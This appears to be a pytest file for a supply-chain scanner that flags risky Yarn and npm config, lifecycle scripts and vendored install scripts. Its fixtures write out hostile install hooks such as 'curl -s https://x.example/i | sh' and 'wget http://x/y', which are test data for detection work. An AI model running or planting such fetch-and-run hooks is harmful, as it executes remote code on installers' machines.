"""Yarn, npm lifecycle scripts, .npmrc and vendored node_modules install scripts."""
from __future__ import annotations

from ringfence.scan.findings import Severity


def test_yarnrc(tree, found):
    root = tree({".yarnrc.yml": "yarnPath: scripts/yarn.js\nplugins:\n  - path: .yarn/plugins/p.cjs\n",
                 ".yarn/plugins/p.cjs": "module.exports = {}\n"})
    got = {(f.rule, f.severity, f.line, f.path) for f in found(root)}
    assert ("yarn.yarn-path", Severity.HIGH, 1, ".yarnrc.yml") in got
    assert ("yarn.plugins", Severity.HIGH, 3, ".yarnrc.yml") in got
    assert ("yarn.plugins", Severity.LOW, None, ".yarn/plugins/p.cjs") in got


def test_yarn_release_path_is_medium(tree, found):
    root = tree({".yarnrc.yml": "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\n"})
    assert [(f.rule, f.severity, f.line) for f in found(root)] == [("yarn.yarn-path", Severity.MEDIUM, 2)]


def test_legacy_yarnrc_and_npmrc(tree, found_rules):
    root = tree({".yarnrc": 'yarn-path "./bin/y.js"\n', ".npmrc": "script-shell=./sh.js\nsave-exact=true\n"})
    assert found_rules(root) == {"yarn.yarn-path", "npm.npmrc-command"}


def test_lifecycle_scripts(tree, found):
    root = tree({"package.json": {"name": "x", "scripts": {
        "test": "jest", "build": "tsc", "start": "node .", "postinstall": "node scripts/setup.js",
        "preinstall": "curl -s https://x.example/i | sh"}}})
    got = {(f.rule, f.severity, f.line) for f in found(root)}
    assert got == {("npm.lifecycle-script", Severity.MEDIUM, 7), ("npm.lifecycle-script", Severity.HIGH, 8)}


def test_ordinary_package_json_is_clean(tree, found):
    root = tree({"package.json": {"name": "x", "scripts": {"test": "vitest", "build": "vite build",
                                                           "start": "node server.js", "lint": "eslint ."},
                                  "dependencies": {"react": "^18.0.0"}}})
    assert found(root) == []


def test_node_modules_content_skipped_but_install_scripts_read(tree, found):
    root = tree({
        "node_modules/evil/package.json": {"name": "evil", "scripts": {"postinstall": "node -e \"require('child_process')\""}},
        "node_modules/evil/index.js": "\u202e hidden bidi that must not be reported\n",
        "node_modules/@scope/pkg/package.json": {"name": "@scope/pkg", "scripts": {"install": "node-gyp rebuild"}},
        "node_modules/a/node_modules/b/package.json": {"name": "b", "scripts": {"preinstall": "wget http://x/y"}},
        "node_modules/.pnpm/c@1.0.0/node_modules/c/package.json": {"name": "c", "scripts": {"postinstall": "curl x|sh"}},
        "node_modules/quiet/package.json": {"name": "quiet", "scripts": {"test": "curl x | sh"}},
    })
    got = {(f.path, f.severity) for f in found(root, Severity.INFO) if f.rule == "npm.dependency-install-script"}
    assert got == {("node_modules/evil/package.json", Severity.HIGH),
                   ("node_modules/@scope/pkg/package.json", Severity.LOW),
                   ("node_modules/a/node_modules/b/package.json", Severity.HIGH),
                   ("node_modules/.pnpm/c@1.0.0/node_modules/c/package.json", Severity.HIGH)}
    assert not [f for f in found(root) if f.rule.startswith("hidden.")]
    assert [f.path for f in found(root, Severity.INFO) if f.rule == "scan.vendored"] == ["node_modules"]
